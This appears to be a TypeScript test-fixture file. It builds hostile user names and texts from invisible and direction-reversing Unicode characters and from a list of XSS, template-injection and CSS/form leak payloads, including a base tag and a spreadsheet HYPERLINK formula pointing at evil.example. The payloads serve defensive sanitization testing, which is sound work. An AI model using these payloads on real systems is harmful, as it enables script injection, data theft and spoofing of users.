/** Marks, embeddings, overrides and isolates of a direction; letters without a width; fillers, selectors, tags, controls. */
const HIDDEN_POINTS =
  '200E 200F 061C 202A 202B 202C 202D 202E 2066 2067 2068 2069 200B 200C 200D 2060 FEFF 00AD 034F 180E FE0F ' +
  'E01EF E0041 115F 1160 3164 FFA0 17B4 FFF9 1D173 FFFE E0FFF E000 0007 001B 007F';

/** Invisible and direction-changing characters, by name. */
export const HIDDEN = HIDDEN_POINTS.split(' ').map(
  (point) => [`U+${point}`, String.fromCodePoint(parseInt(point, 16))] as const,
);

/** Names that are not empty but show nothing. */
export const INVISIBLE_NAMES: readonly string[] = [
  ...HIDDEN.map(([, character]) => character.repeat(3)),
  HIDDEN.map(([, character]) => character).join(''),
  '\u2800\u2800',
  '\u00A0\u2003\u3000',
  '\u0301\u0301',
  '\u200B \u2800 \u3164',
];

/** Names that reverse the adjacent text unless isolated. */
export const TURNING_NAMES: readonly string[] = [
  'Ján\u202E',
  '\u202EJán',
  '\u2069\u202EJán',
  '\u2067Ján',
  '\u202BJán 1',
  'Ján\u200F',
  'Ján \u202E\u2066\u202E',
  'שרה',
  'שרה 1',
  '1 שרה (2',
  'محمد ٣',
  'Eva שרה',
];

const SCRIPTS: readonly string[] = [
  '<img src=x onerror=hacked()>',
  '<svg onload=hacked()>',
  '<script>hacked()</script>',
  '<a href="javascript:hacked()">x</a>',
  '<iframe srcdoc="<script>parent.hacked()</script>">',
  '<details open ontoggle=hacked()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hacked()>',
  '"><img src=x onerror=hacked()>',
  "'-hacked()-'",
  'javascript:hacked()',
  '{{constructor.constructor("hacked()")()}}',
  '${hacked()}',
  '#{hacked()}',
  '<%= hacked() %>',
  '`+hacked()+`',
  '&lt;img src=x onerror=hacked()&gt;',
  '</title></style></textarea><img src=x onerror=hacked()>',
  '<style>*{background:url("/lane/leak/css")}</style>',
  '<form action=/lane/leak/form><button autofocus onfocus=hacked()>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=/lane/leak/meta">',
  '=HYPERLINK("http://evil.example","x")',
];

const DRESSES: readonly ((script: string) => string)[] = [
  (script) => script,
  (script) => `Ján ${script} Novák`,
  (script) => `\u202E${script}`,
  (script) => `${script}\u2069\u202E`,
  (script) => script.toUpperCase().replaceAll('HACKED', 'hacked'),
  (script) => script.replace('<', '<\u200B'),
  (script) => script.replace('<', '＜'),
  (script) => `\u0000${script}`,
  (script) => `שרה ${script}`,
  (script) => script.repeat(3),
  (script) => script.replaceAll(' ', '\n'),
  (script) => `__proto__ constructor ${script}`,
];

/** A few hundred texts: each script in each wrapping. */
export const HOSTILE: readonly string[] = SCRIPTS.flatMap((script) => DRESSES.map((dress) => dress(script)));
